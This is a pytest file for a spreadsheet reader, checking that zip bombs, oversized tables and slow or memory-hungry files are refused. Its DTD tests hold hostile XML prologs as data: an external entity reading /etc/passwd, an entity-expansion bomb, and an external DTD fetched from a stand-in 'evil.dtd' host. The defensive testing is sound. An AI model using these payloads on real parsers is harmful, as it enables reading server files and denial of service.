"""Sheets made to do harm, or too big: refused with a sentence, within the limits of memory and time."""

import os
import random
from dataclasses import replace
from pathlib import Path

import pytest

from core.sheets.file_type import HARMFUL
from core.sheets.reader import ReadLimits, SheetRefused, read_table
from tests.core.sheet_samples import TWO_ROWS, WORKSHEET, Read, raw_xlsx, refusal, xlsx

HEADER = ("단지명", "세대수")
SMALL = ReadLimits(unpacked_bytes=12 * 1024 * 1024)
BLANKS = "<sst>" + " " * (24 * 1024 * 1024)


def test_file_over_the_limit_is_refused_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.xlsx"
    with path.open("wb") as file:
        os.truncate(file.fileno(), 100 * 1024 * 1024)
    with pytest.raises(SheetRefused, match="30MB를 넘습니다"):
        read_table(path, file_name="huge.xlsx")


def test_zip_bomb_is_refused_by_its_directory(read: Read) -> None:
    bomb = raw_xlsx(sharedStrings=BLANKS)
    assert len(bomb) < 100 * 1024
    assert "12MB가 넘는" in refusal(read, bomb, limits=SMALL)
    assert ReadLimits().unpacked_bytes == 500 * 1024 * 1024


def test_part_compressed_beyond_any_real_sheet_is_refused(read: Read) -> None:
    assert refusal(read, raw_xlsx(sharedStrings=BLANKS)) == HARMFUL


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
    ],
)
def test_sheet_with_a_dtd_is_refused(read: Read, prolog: str) -> None:
    worksheet = WORKSHEET.replace("?><worksheet", f"?>{prolog}<worksheet")
    assert refusal(read, raw_xlsx(worksheet=worksheet)) == HARMFUL


def test_entity_beyond_the_looked_at_head_is_never_resolved(read: Read) -> None:
    prolog = f'<!--{"x" * 5000}--><!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
    rows = TWO_ROWS.replace("<t>가</t>", "<t>가&leak;</t>")
    content = raw_xlsx(rows=rows, worksheet=WORKSHEET.replace("?><worksheet", f"?>{prolog}<worksheet"))
    try:
        cells = str(read(content).rows)
    except SheetRefused:
        return
    assert "root:" not in cells


def test_one_cell_at_the_far_corner_is_refused_for_memory(read: Read) -> None:
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    assert "너무 크" in refusal(read, raw_xlsx(rows=TWO_ROWS + corner))


def test_sheet_that_eats_memory_within_the_unpacked_limit_is_stopped(read: Read) -> None:
    text = "".join(random.Random(1).choices("가나다라마바사", k=30_000))
    row = '<row r="{0}"><c r="A{0}" t="s"><v>0</v></c><c r="B{0}" t="s"><v>0</v></c></row>'
    rows = "".join(row.format(number) for number in range(1, 40_000))
    content = raw_xlsx(rows=rows, sharedStrings=f'<sst count="1"><si><t>{text}</t></si></sst>')
    assert "너무 크" in refusal(read, content)


def test_memory_of_the_reading_process_is_limited(read: Read) -> None:
    row = '<row r="{0}"><c r="A{0}"><v>{0}</v></c><c r="ALL{0}"><v>1</v></c></row>'
    content = raw_xlsx(rows="".join(row.format(number) for number in range(1, 10_000)))
    roomy = ReadLimits(columns=1_000, cells=20_000_000)
    assert len(read(content, limits=roomy).rows) == 9_999
    assert "너무 크" in refusal(read, content, limits=replace(roomy, memory_bytes=200 * 1024 * 1024))


def test_reading_that_takes_too_long_is_stopped(read: Read) -> None:
    assert "너무 오래" in refusal(read, xlsx(HEADER, ("가", 1)), limits=ReadLimits(wall_seconds=0.001))


def test_processor_time_is_limited_too(read: Read) -> None:
    rows = "\n".join(f"{number},나" for number in range(150_000))
    limits = ReadLimits(cpu_seconds=0)
    assert "너무" in refusal(read, rows, limits=limits)


@pytest.mark.parametrize(
    ("limits", "named"),
    [
        (ReadLimits(rows=2), "행이 2줄을"),
        (ReadLimits(columns=1), "열이 1개를"),
        (ReadLimits(cells=5), "칸이 모두 5개를"),
    ],
)
def test_table_over_a_limit_is_refused_with_the_limit(read: Read, limits: ReadLimits, named: str) -> None:
    assert named in refusal(read, xlsx(HEADER, ("가", 1), ("나", 2)), limits=limits)


def test_the_reading_process_sees_nothing_of_the_servers_environment(monkeypatch: pytest.MonkeyPatch, read: Read) -> None:
    monkeypatch.setenv("PYTHONSTARTUP", "/nonexistent")
    monkeypatch.setenv("PYTHONPATH", "/nonexistent")
    monkeypatch.setenv("DJANGO_SETTINGS_MODULE", "no.such.module")
    assert read(xlsx(HEADER, ("가", 1))).rows[1] == ["가", 1]
